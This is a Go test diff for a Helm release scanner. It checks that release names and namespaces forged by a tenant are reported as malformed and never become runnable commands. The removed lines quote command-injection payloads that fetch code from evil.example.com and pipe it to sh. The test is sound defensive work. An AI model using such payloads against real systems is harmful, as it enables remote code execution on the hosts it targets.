@@ -30,8 +30,10 @@ const (
 )
 
 // The injected values yield no runnable command, in any format of scan, in preflight's
-// checklist or in the fix plan:
-// each command they would fill is withheld with the reason, and the forged description is
+// checklist or in the fix plan. A record whose name or namespace is not its Secret's is
+// reported as malformed, naming the Secret, and never acted on (so the injected values reach
+// no ladder at all; the withheld-command path behind it is tested in internal/shellcmd,
+// internal/check and internal/remediate). A well-formed release's forged description is
 // quoted on one line. The tenant writes the records with their own credentials against a
 // real API server with RBAC; the operator scans and plans as cluster administrator.
 func TestInjectedReleaseYieldsNoRunnableCommand(t *testing.T) {
@@ -44,6 +46,8 @@ func TestInjectedReleaseYieldsNoRunnableCommand(t *testing.T) {
 		{secret: "app", name: injectedName, namespace: "tenant-a", version: 2, status: "failed", description: forgedDescription, at: now.Add(-3 * time.Hour)},
 		{secret: "web", name: "web", namespace: injectedNamespace, version: 1, status: "deployed", description: "Install complete", at: now.Add(-48 * time.Hour)},
 		{secret: "web", name: "web", namespace: injectedNamespace, version: 2, status: "failed", description: "Upgrade \"web\" failed: timed out", at: now.Add(-3 * time.Hour)},
+		{secret: "db", name: "db", namespace: "tenant-a", version: 1, status: "deployed", description: "Install complete", at: now.Add(-48 * time.Hour)},
+		{secret: "db", name: "db", namespace: "tenant-a", version: 2, status: "failed", description: forgedDescription, at: now.Add(-3 * time.Hour)},
 	} {
 		if _, err := tenant.CoreV1().Secrets("tenant-a").Create(ctx, rec.secretObject(t), metav1.CreateOptions{}); err != nil {
 			t.Fatalf("the tenant writes %s: %v", rec.secretName(), err)
@@ -54,27 +58,27 @@ func TestInjectedReleaseYieldsNoRunnableCommand(t *testing.T) {
 	for _, format := range []string{"table", "markdown", "json"} {
 		out, errOut, code := run(t, append([]string{"scan", "-o", format}, args...)...)
 		if code != 3 {
-			t.Fatalf("scan -o %s exited %d, want 3 (findings); stderr: %s", format, code, errOut)
+			t.Fatalf("scan -o %s exited %d, want 3 (db's failed release; the malformed records are listed under errors); stderr: %s", format, code, errOut)
 		}
 		outputs["scan -o "+format] = out
 	}
 	for _, format := range []string{"table", "json"} {
 		out, errOut, code := run(t, append([]string{"fix", "-o", format}, args...)...)
-		if code != 0 && code != 3 {
+		if code != 0 && code != 3 && code != 4 {
 			t.Fatalf("fix -o %s exited %d; stderr: %s", format, code, errOut)
 		}
 		outputs["fix -o "+format] = out
 	}
 	out, errOut, code := run(t, append([]string{"preflight"}, args...)...)
-	if code != 3 {
-		t.Fatalf("preflight exited %d, want 3 (no-go); stderr: %s", code, errOut)
+	if code != 3 && code != 4 {
+		t.Fatalf("preflight exited %d, want 3 (no-go) or 4 (incomplete); stderr: %s", code, errOut)
 	}
 	outputs["preflight"] = out
 	for what, out := range outputs {
 		checkNoRunnableInjection(t, what, out)
 	}
 	checkFixPlansNothing(t, outputs["fix -o json"])
-	checkWithheldWithReason(t, outputs["scan -o json"])
+	checkMalformedReported(t, outputs["scan -o json"])
 	for _, what := range []string{"scan -o table", "scan -o markdown", "preflight"} {
 		checkForgedAdviceOnOneLine(t, what, outputs[what])
 	}
@@ -189,50 +193,36 @@ func checkNoRunnableInjection(t *testing.T, what, out string) {
 	}
 }
 
-// checkFixPlansNothing: fix plans no step from a ladder whose command was withheld; both
-// releases are left to the operator, by name.
+// checkFixPlansNothing: fix plans no step and leaves no manual entry for the releases whose
+// records are malformed: nothing is done with them, not even advice.
 func checkFixPlansNothing(t *testing.T, out string) {
 	t.Helper()
-	var p struct {
-		Incidents []json.RawMessage `json:"incidents"`
-		Manual    []struct {
-			Finding struct {
-				Object struct{ Name string } `json:"object"`
-			} `json:"finding"`
-		} `json:"manual"`
-	}
-	if err := json.Unmarshal([]byte(out), &p); err != nil {
-		t.Fatalf("fix -o json: %v", err)
-	}
-	var manual []string
-	for _, m := range p.Manual {
-		manual = append(manual, m.Finding.Object.Name)
-	}
-	if len(p.Incidents) != 0 || len(manual) != 2 {
-		t.Errorf("fix plans %d incidents, leaves %v to the operator; want none planned and both releases left:\n%s", len(p.Incidents), manual, out)
+	for _, s := range jsonStrings(t, "fix -o json", out) {
+		if strings.Contains(s, injectedName) || strings.Contains(s, injectedNamespace) || strings.Contains(s, "sh.helm.release.v1.app.") || strings.Contains(s, "sh.helm.release.v1.web.") {
+			t.Errorf("fix -o json names a malformed release: %q", s)
+		}
 	}
 }
 
-// checkWithheldWithReason: the commands the injected values would fill are withheld, each
-// saying which value broke which rule, shown quoted and on one line.
-func checkWithheldWithReason(t *testing.T, out string) {
+// checkMalformedReported: each Secret whose record names another release or namespace is
+// reported as malformed under errors, by the Secret's own namespace and name.
+func checkMalformedReported(t *testing.T, out string) {
 	t.Helper()
-	var withheld []string
-	for _, s := range jsonStrings(t, "scan -o json", out) {
-		if strings.HasPrefix(s, "# command withheld: ") {
-			withheld = append(withheld, s)
-		}
+	var rep struct {
+		Errors []struct {
+			Message string `json:"message"`
+		} `json:"errors"`
 	}
-	for _, want := range []string{
-		`release 'app$(curl${IFS}-s${IFS}evil.example.com|sh)' is not a valid Helm release name`,
-		`namespace 'tenant-a⏎;curl -s evil.example.com|sh' is not a valid namespace`,
-	} {
+	if err := json.Unmarshal([]byte(out), &rep); err != nil {
+		t.Fatalf("scan -o json: %v", err)
+	}
+	for _, secret := range []string{"tenant-a/sh.helm.release.v1.app.v2", "tenant-a/sh.helm.release.v1.web.v2"} {
 		found := false
-		for _, w := range withheld {
-			found = found || strings.Contains(w, want)
+		for _, e := range rep.Errors {
+			found = found || strings.Contains(e.Message, "Helm release Secret "+secret+" is malformed")
 		}
 		if !found {
-			t.Errorf("no command is withheld with %q; withheld: %q", want, withheld)
+			t.Errorf("no error says %s is malformed; errors: %+v", secret, rep.Errors)
 		}
 	}
 }
